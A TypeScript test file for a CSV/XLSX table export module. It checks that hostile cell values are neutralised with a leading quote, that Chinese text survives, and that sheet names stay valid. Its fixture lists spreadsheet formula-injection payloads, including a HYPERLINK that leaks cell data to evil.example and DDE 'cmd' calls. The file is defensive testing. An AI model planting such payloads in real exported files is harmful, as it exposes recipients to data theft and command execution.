// CSV and XLSX export: a hostile name comes back as text from both files, never as a formula;
// Chinese survives (UTF-8 with BOM); the XLSX is read back with exceljs as Excel would open it.
import ExcelJS from "exceljs";
import Papa from "papaparse";
import { describe, expect, test } from "vitest";
import { csvText, exportColumns, exportValue, neutralise, sheetNames, xlsxBytes, type Sheet } from "../../src/components/shared/tableExport.ts";

const hostile = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

const rows = [
  ...hostile.map((name, i) => ({ name, amount: i - 1, ok: i % 2 === 0 })),
  { name: "广州市示例机械有限公司", amount: 12.5, ok: null },
];
const columns = [{ key: "name", label: "企业名称" }, { key: "amount", label: "金额(万元)" }, { key: "ok", label: "是否达标" }];

async function readXlsx(sheets: Sheet[]): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(await xlsxBytes(sheets)) as unknown as ArrayBuffer);
  return wb;
}

describe("neutralise", () => {
  test("should prefix a single quote to text starting with = + - @ tab or CR", () => {
    expect(hostile.map(neutralise)).toEqual(hostile.map((h) => `'${h}`));
  });

  test("should leave other text alone", () => {
    for (const s of ["广州市示例机械有限公司", "", "12.5", "a=b", " =1", "'quoted"]) expect(neutralise(s)).toBe(s);
  });

  test("should keep numbers as numbers (a negative amount is no formula) and write 是/否 and empty cells", () => {
    expect([exportValue(-5), exportValue(Number.NaN), exportValue(true), exportValue(false), exportValue(null), exportValue(undefined)]).toEqual([-5, "", "是", "否", "", ""]);
  });
});

describe("CSV", () => {
  const text = csvText(rows, columns);

  test("should start with a UTF-8 byte-order mark and end lines with CRLF", () => {
    expect(text.startsWith("\uFEFF企业名称,金额(万元),是否达标\r\n")).toBe(true);
    expect(Buffer.from(text, "utf8").subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(text.endsWith("广州市示例机械有限公司,12.5,\r\n")).toBe(true);
  });

  test("should bring every hostile name back as text starting with a quote", () => {
    const parsed = Papa.parse<string[]>(text.slice(1), { newline: "\r\n" }).data.filter((r) => r.length > 1);
    expect(parsed.slice(1, 1 + hostile.length).map((r) => r[0])).toEqual(hostile.map((h) => `'${h}`));
    expect(parsed.slice(1, 1 + hostile.length).map((r) => r[1])).toEqual(["-1", "0", "1", "2", "3", "4"]);
  });

  test("should quote cells holding commas, quotes or line breaks", () => {
    expect(csvText([{ a: 'x,"y"\nz' }], exportColumns([{ a: "" }]))).toBe('\uFEFFa\r\n"x,""y""\nz"\r\n');
  });
});

describe("XLSX", () => {
  test("should bring every hostile name back as a text cell starting with a quote, never a formula", async () => {
    const wb = await readXlsx([{ name: "企业", columns, rows }]);
    const ws = wb.getWorksheet("企业")!;
    expect(ws.getRow(1).values).toEqual([undefined, "企业名称", "金额(万元)", "是否达标"]);
    hostile.forEach((h, i) => {
      const cell = ws.getCell(i + 2, 1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // XML reads a bare CR back as LF: the cell still starts with the quote.
      expect(cell.value).toBe(`'${h}`.replace(/\r/g, "\n"));
      expect(cell.formula).toBeUndefined();
    });
  });

  test("should keep numbers numeric and Chinese intact", async () => {
    const ws = (await readXlsx([{ name: "企业", columns, rows }])).getWorksheet("企业")!;
    expect(ws.getCell(2, 2).type).toBe(ExcelJS.ValueType.Number);
    expect(ws.getCell(2, 2).value).toBe(-1);
    expect(ws.getCell(hostile.length + 2, 1).value).toBe("广州市示例机械有限公司");
    expect(ws.getCell(2, 3).value).toBe("是");
  });

  test("should write one worksheet per sheet, with names Excel accepts", async () => {
    const wb = await readXlsx([
      { name: "目标变化", columns, rows: [] },
      { name: "a/b:c?[d]", columns, rows: [] },
      { name: "目标变化", columns, rows: [] },
    ]);
    expect(wb.worksheets.map((w) => w.name)).toEqual(["目标变化", "a b c  d", "目标变化_2"]);
  });
});

describe("sheet names and columns", () => {
  test("should cut names to 31 characters and keep them unique", () => {
    const long = "很".repeat(40);
    const [a, b] = sheetNames([long, long]);
    expect([a!.length, b!.length, a === b]).toEqual([31, 31, false]);
  });

  test("should export every key of the rows in first-seen order when no columns are given", () => {
    expect(exportColumns([{ a: 1 }, { b: 2, a: 3 }])).toEqual([{ key: "a", label: "a" }, { key: "b", label: "b" }]);
    expect(exportColumns([{ a: 1 }], ["a", { key: "b", label: "乙" }])).toEqual([{ key: "a", label: "a" }, { key: "b", label: "乙" }]);
  });
});
